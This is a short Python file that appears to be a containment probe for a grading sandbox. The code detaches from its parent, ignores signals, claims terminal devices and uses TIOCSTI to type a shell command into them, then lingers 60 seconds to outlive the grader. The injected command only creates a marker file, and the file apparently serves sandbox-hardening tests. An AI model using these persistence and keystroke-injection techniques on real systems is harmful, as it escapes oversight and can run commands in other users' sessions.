"""Tries to outlive the grader: no signal at its parent's death, own session and terminal, typed-in input.

Holds: the sandbox's first process ends with the grader and takes the others along; there is no terminal.
Unsealed: no, it leaves a process running for 60 seconds and types into terminals
"""

import ctypes
import fcntl
import os
import signal
import time

libc = ctypes.CDLL(None, use_errno=True)
PR_SET_PDEATHSIG, PR_SET_DUMPABLE, PR_SET_CHILD_SUBREAPER, TIOCSTI, TIOCSCTTY = 1, 4, 36, 0x5412, 0x540E


def outlive(*arguments, **keywords):
    libc.prctl(PR_SET_PDEATHSIG, 0, 0, 0, 0)
    libc.prctl(PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0)
    libc.prctl(PR_SET_DUMPABLE, 1, 0, 0, 0)
    if os.fork() == 0:
        os.setsid()
        for number in range(1, 32):
            if number not in (signal.SIGKILL, signal.SIGSTOP):
                signal.signal(number, signal.SIG_IGN)
        for path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/tty1", "/dev/ptmx"):
            try:
                terminal = os.open(path, os.O_RDWR | os.O_NOCTTY)
                fcntl.ioctl(terminal, TIOCSCTTY, 1)
                for letter in "touch /tmp/coursekit-attack-typed\n":
                    fcntl.ioctl(terminal, TIOCSTI, letter.encode())
                loot(f"typed into {path}")
            except OSError as error:
                print(path, error)
        os.closerange(0, 256)
        time.sleep(60)
        os._exit(0)


outlive()
functions_do(outlive)
